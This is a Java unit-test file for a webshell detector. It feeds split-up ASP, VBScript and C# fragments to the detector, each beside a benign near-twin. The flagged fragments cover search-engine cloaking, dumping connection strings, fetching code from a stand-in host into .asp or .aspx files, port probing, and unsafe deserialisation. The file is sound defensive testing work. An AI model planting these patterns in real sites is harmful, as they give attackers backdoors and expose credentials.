package org.wachtpost.inspect.webshell;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * Pages of which no single call tells what they are for, each beside the ordinary page that comes
 * closest. Constructs are written in pieces, so that no scanner takes this file for what it
 * describes.
 */
class PurposesTest extends PageTest {
  private static final String FETCH =
      "var c = new System.Net.Web"
          + "Client(); var s = c.Download"
          + "String(\"http://a.test/\"%s);";

  private static final String TEXT = "<p>" + "What our page has to say. ".repeat(40) + "</p>";

  private static final String VARIABLE = REQ + ".ServerVariables[\"%s\"]";
  private static final String HOST = " + \"?host=\" + " + VARIABLE.formatted("HTTP_HOST");
  private static final String PATH = " + \"&page=\" + " + VARIABLE.formatted("SCRIPT_NAME");

  @Test
  void whatSearchEnginesAreShownComesFromElsewhere() {
    String names = "var names = \"googlebot|bingbot\"; bool told = names.IndexOf(%s) > 0;";
    String browser = names.formatted(REQ + ".UserAgent");
    String show = "if (told) { Response.Write(s); }";
    String own = FETCH.formatted(HOST + PATH);
    assertThat(isShellInCsharp(browser + own + show)).isTrue();
    assertThat(isShellInCsharp(browser + "Log(told);")).isFalse();
    String page = TEXT + "<%@ Page Language=\"C#\" %><% ";
    assertThat(isShell(page + names.formatted("name") + own + show + " %>")).isFalse();
    String one = browser.replace("|bingbot", "");
    assertThat(isShell(page + one + own + show + " %>")).isFalse();
    assertThat(isShell(page + browser + own + show + " %>")).isTrue();
    // A counter that leaves robots out, beside news from elsewhere.
    assertThat(isShellInCsharp(browser + FETCH.formatted("") + show)).isFalse();
  }

  @Test
  void theAddressOfThePageInAnother() {
    String share = "Response.Write(\"<a href=http://share.test\"" + HOST + PATH + ");";
    assertThat(isShellInCsharp(share + FETCH.formatted("") + "Response.Write(s);")).isFalse();
    String back = "var back = \"http://pay.test\"" + HOST + PATH + "; Response.Redirect(back);";
    assertThat(isShellInCsharp(back + FETCH.formatted("") + "Response.Write(s);")).isFalse();
  }

  @Test
  void passwordsOfDatabasesThatAreShown() {
    String all =
        "foreach (ConnectionStringSettings c in ConfigurationManager.Connection"
            + "Strings) { Response.Write(c.%s); }";
    assertThat(isShellInCsharp(all.formatted("Connection" + "String"))).isTrue();
    assertThat(isShellInCsharp(all.formatted("Name"))).isFalse();
    assertThat(isShellInCsharp(all.formatted("Connection" + "String") + "all.Save();")).isFalse();
    String one = "var s = ConfigurationManager.Connection" + "Strings[%s].Connection" + "String;";
    String typed = REQ + "[\"name\"]";
    assertThat(isShellInCsharp(one.formatted(typed) + "box.Text = s;")).isTrue();
    assertThat(isShellInCsharp(one.formatted(typed) + "Rows(s);")).isFalse();
    assertThat(isShellInCsharp(one.formatted("\"shop\"") + "box.Text = s;")).isFalse();
    String open = "using (var c = new Sql" + "Connection(s)) { c.Open(); List(c); }";
    assertThat(isShellInCsharp(one.formatted("\"shop\"") + open)).isFalse();
  }

  @Test
  void anotherFolderForTheSite() {
    String make = "Set v = GetObject(\"IIS://localhost/W3SVC/1/ROOT\").Create(\"%s\", \"a\")";
    String path = "v.Path = " + REQ + "(\"p\")";
    assertThat(isShellInBasic(make.formatted("IIsWeb" + "VirtualDir"), path)).isTrue();
    assertThat(isShellInBasic(make.formatted("IIsFilter"), path)).isFalse();
    String add =
        "using (var m = new ServerManager()) { m.Sites[0].Applications[0]"
            + ".VirtualDirectories.Add(\"/a\", %s); m.CommitChanges(); }";
    assertThat(isShellInCsharp(add.formatted(REQ + "[\"p\"]"))).isTrue();
    assertThat(isShellInCsharp(add.formatted("folder") + "Log(" + REQ + "[\"p\"]);")).isFalse();
    String product = "<%@ Page Language=\"C#\" Inherits=\"Panel.Sites\" %><% %s %>";
    String inProduct = product.replace("%s", add.formatted(REQ + "[\"p\"]"));
    assertThat(isShell(inProduct)).isFalse();
  }

  @Test
  void mailForAListOfTheClients() {
    String field = REQ + ".Form(\"%s\")";
    String each = "For Each a In Split(" + field.formatted("list") + ", vbCrLf)";
    String make = "Set m = Server.CreateObject(\"CDO.Message\")";
    String from = "m.From = " + field.formatted("from");
    String body = "m.TextBody = " + field.formatted("text");
    String send = "m.Send\nNext";
    assertThat(isShellInBasic(each, make, "m.To = a", from, body, send)).isTrue();
    String inside = "If Session(\"staff\") <> 1 Then Response.End";
    assertThat(isShellInBasic(inside, each, make, "m.To = a", from, body, send)).isFalse();
    String fixed = "m.From = \"shop@example.test\"";
    assertThat(isShellInBasic(each, make, "m.To = a", fixed, body, send)).isFalse();
    String contact = "m.To = \"shop@example.test\"";
    assertThat(isShellInBasic(each, make, contact, from, body, send)).isFalse();
    String friend = "m.To = " + field.formatted("friend");
    assertThat(isShellInBasic(make, friend, from, body, "m.Send")).isFalse();
  }

  @Test
  void aScriptFileNamedAsThePageItself() {
    String write = "System.IO.File.WriteAll" + "Text(" + REQ + ".PhysicalPath + \"%s\", \"x\");";
    assertThat(isShellInCsharp(write.formatted(".as" + "px"))).isTrue();
    assertThat(isShellInCsharp(write.formatted(".log"))).isFalse();
  }

  @Test
  void whatIsFetchedIsWrittenIntoAScriptFileThatANameHolds() {
    String fetch = "Set x = Server.CreateObject(\"MSXML2.XML" + "HTTP\")";
    String open = "x.Open \"GET\", \"http://a.test/\", False";
    String store =
        "Sub Store(text, name)\nSet s = Server.CreateObject(\"ADODB.Stream\")\n"
            + "s.Open\ns.WriteText text\ns.SaveToFile Server.MapPath(name), 2\nEnd Sub";
    String call = "Store x.responseText, \"index.%s\"";
    assertThat(isShellInBasic(fetch, open, call.formatted("asp"), store)).isTrue();
    assertThat(isShellInBasic(fetch, open, call.formatted("xml"), store)).isFalse();
    assertThat(isShellInBasic(call.formatted("asp"), store)).isFalse();
    String copies = store.replace("(name)", "(Replace(name, \".as" + "p\", \".html\"))");
    assertThat(isShellInBasic(fetch, open, call.formatted("asp"), copies)).isFalse();
    String named = "Store x.responseText, Replace(page, \".as" + "p\", \".html\")";
    assertThat(isShellInBasic(fetch, open, named, store)).isFalse();
  }

  private static final String GET =
      "Function Page(a)\nSet x = Server.CreateObject(\"MSXML2.ServerXML"
          + "HTTP\")\nx.Open \"GET\", a, False\nx.Send\nPage = x.responseText\nEnd Function";

  private static final String OWN =
      "here = \"http://\" & " + REQ + ".ServerVariables(\"HTTP_HOST\") & " + REQ + "%s";

  @Test
  void whatIsFetchedForTheOwnAddressIsAllThatIsShown() {
    String own = OWN.formatted(".ServerVariables(\"SCRIPT_NAME\")");
    String ask = "there = \"http://a.test/index.php\" & \"?host=\" & here";
    String show = "Response.Write Page(there)";
    assertThat(isShellInBasic(own, ask, show, GET)).isTrue();
    // A licence is asked for by host; a short link is part of a page.
    String host = OWN.formatted(".ServerVariables(\"SERVER_PORT\")");
    assertThat(isShellInBasic(host, ask, show, GET)).isFalse();
    String link = "Response.Write \"<a href='\" & Page(there) & \"'>link</a>\"";
    assertThat(isShellInBasic(own, ask, link, GET)).isFalse();
    String code = String.join("\n", own, ask, show, GET);
    assertThat(isShell(TEXT + "<%\n" + code + "\n%>")).isFalse();
    assertThat(isShellInBasic(own, ask, "Response.Write Page(\"http://a.test/\")", GET)).isFalse();
  }

  @Test
  void whatIsFetchedForWeeksIsAllThatIsShown() {
    String show = "Response.Write(Page(\"http://a.test/?\" & " + REQ + ".QueryString))";
    String weeks = "Server.Script" + "Timeout = 88888%s";
    assertThat(isShellInBasic(weeks.formatted("8"), show, GET)).isTrue();
    assertThat(isShellInBasic("Server.Script" + "Timeout = 600", show, GET)).isFalse();
    String backup = "text = Page(\"http://a.test/?\" & " + REQ + ".QueryString)";
    assertThat(isShellInBasic(weeks.formatted("8"), backup, GET)).isFalse();
  }

  @Test
  void whatIsFetchedIsWrittenIntoAScriptFileWhoseNameIsMade() {
    String store =
        "Sub Store(name, text)\nSet f = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
            + "Set t = f.CreateText"
            + "File(name, True)\nt.Write text\nEnd Sub";
    String call = "Store Server.MapPath(\"./\" & names(i) & \".%s\"), Page(\"http://a.test/\")";
    assertThat(isShellInBasic(call.formatted("asp"), store, GET)).isTrue();
    assertThat(isShellInBasic(call.formatted("html"), store, GET)).isFalse();
  }

  @Test
  void severalListsOfTheHost() {
    String variables = "For Each v In " + REQ + ".ServerVariables%s\nResponse.Write v\nNext\n";
    String shell = "Set w = Server.CreateObject(\"WScript" + ".Shell\")\n";
    String environment = "For Each e In w.Environment(\"System\")\nResponse.Write e\nNext\n";
    assertThat(isShellInBasic(variables.formatted(""), shell, environment)).isTrue();
    String one = variables.formatted("(\"HTTP_COOKIE\")");
    assertThat(isShellInBasic(one, shell, environment)).isFalse();
    assertThat(isShellInBasic(variables.formatted(""), shell)).isFalse();
    String drives = "Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\n";
    String each = "For Each d In f.Drives\nResponse.Write d.DriveLetter\nNext";
    assertThat(isShellInBasic(variables.formatted(""), drives, each)).isTrue();
    assertThat(isShellInBasic(drives, each)).isFalse();
    String names =
        "foreach (var n in "
            + REQ
            + ".ServerVariables) { Response.Write(n); } "
            + "foreach (var v in Environment.GetEnvironment"
            + "Variables()) { Response.Write(v); }";
    assertThat(isShellInCsharp(names)).isTrue();
    assertThat(isShellInCsharp(names.substring(names.indexOf('}') + 1))).isFalse();
    String product = "<%@ Page Language=\"C#\" Inherits=\"Panel.Health\" %><% " + names + " %>";
    assertThat(isShell(product)).isFalse();
  }

  @Test
  void whoComesFromASearchEngineIsSentElsewhere() {
    String page =
        "<script runat=\"server\" language=\"VBScript\">Sub Session_OnStart\nr = "
            + REQ
            + ".ServerVariables(\"HTTP_REFERER\")\n"
            + "If InStr(r, \"google.\") Or InStr(r, \"%s\") Then\n"
            + "Response.Redirect \"%s\"\nEnd If\nEnd Sub</script>";
    assertThat(isShell(page.formatted("baidu.", "http://a.test/"))).isTrue();
    assertThat(isShell(page.formatted("baidu.", "welcome.asp"))).isFalse();
    assertThat(isShell(page.formatted("intranet.", "http://a.test/"))).isFalse();
    assertThat(isShell(page.formatted("www.bing.com", "http://a.test/"))).isTrue();
    // Words that a search engine's name is only a part of.
    assertThat(isShell(page.formatted("climbing.test", "http://a.test/"))).isFalse();
    assertThat(isShell(page.formatted("also.com", "http://a.test/"))).isFalse();
    String opens = "Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"DSN=a\"\nr = ";
    String counted = page.replace("r = ", opens);
    assertThat(isShell(counted.formatted("baidu.", "http://a.test/"))).isFalse();
  }

  @Test
  void portsAreTriedOneAfterTheOther() {
    String page =
        "<%% For p = 1 To 9\nSet x = CreateObject(\"MSXML2.Server"
            + "XMLHTTP\")\n"
            + "x.Open \"GET\", \"http://\" & %s & \":\" & %s, False\nx.Send\nNext %%>";
    String host = REQ + "(\"h\")";
    assertThat(isShell(page.formatted(host, "p"))).isTrue();
    assertThat(isShell(page.formatted(host, "port"))).isFalse();
    assertThat(isShell(page.formatted("\"a.test\"", "p"))).isFalse();
  }

  @Test
  void tablesOfWhateverDatabase() {
    String page =
        "<%% Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"DBQ=\" & %s\n"
            + "Set r = c.%s(20)\nResponse.Write r(0) %%>";
    String sent = REQ + "(\"d\")";
    assertThat(isShell(page.formatted(sent, "OpenSchema"))).isTrue();
    assertThat(isShell(page.formatted(sent, "Execute"))).isFalse();
    assertThat(isShell(page.formatted("path", "OpenSchema"))).isFalse();
  }

  @Test
  void whatIsLoadedDownBecomesAPage() {
    String load = "new System.Net.Web" + "Client().Download" + "File(\"http://a.test/a\", %s);";
    assertThat(isShellInCsharp(load.formatted("Server.MapPath(\"b.aspx\")"))).isTrue();
    assertThat(isShellInCsharp(load.formatted("Server.MapPath(\"b.xml\")"))).isFalse();
  }

  @Test
  void filesOfWhichTheClientHasTheName() {
    String write = "System.IO.File.Write" + "AllText(%s, " + REQ + ".Form[\"t\"]);";
    String name = REQ + ".Form[\"n\"]";
    assertThat(isShellInCsharp(write.formatted("Server.MapPath(\"~/\") + " + name))).isTrue();
    assertThat(isShellInCsharp(write.formatted("Server.MapPath(\".\") + \"/\" + " + name)))
        .isTrue();
    assertThat(isShellInCsharp(write.formatted("Server.MapPath(\"~/\") + \"notes/\" + " + name)))
        .isFalse();
    String text = write.formatted("Server.MapPath(\"~/\") + " + name + " + \".txt\"");
    assertThat(isShellInCsharp(text)).isFalse();
    String save = REQ + ".Files[0].Save" + "As(\"%s\" + " + REQ + ".Files[0].FileName);";
    assertThat(isShellInCsharp(save.formatted("./"))).isTrue();
    assertThat(isShellInCsharp(save.formatted("d:/in/"))).isFalse();
  }

  @Test
  void objectsOfWhateverClass() {
    String read =
        "new System.Xml.Serialization.Xml"
            + "Serializer(%s).Deserialize(new Reader("
            + REQ
            + "[\"d\"]));";
    String sent = REQ + "[\"t\"]";
    assertThat(isShellInCsharp(read.formatted("Type.GetType(" + sent + ")"))).isTrue();
    assertThat(isShellInCsharp(read.formatted("Type.GetType(\"Shop.\" + " + sent + ")"))).isFalse();
    assertThat(isShellInCsharp(read.formatted("typeof(Order)"))).isFalse();
  }
}
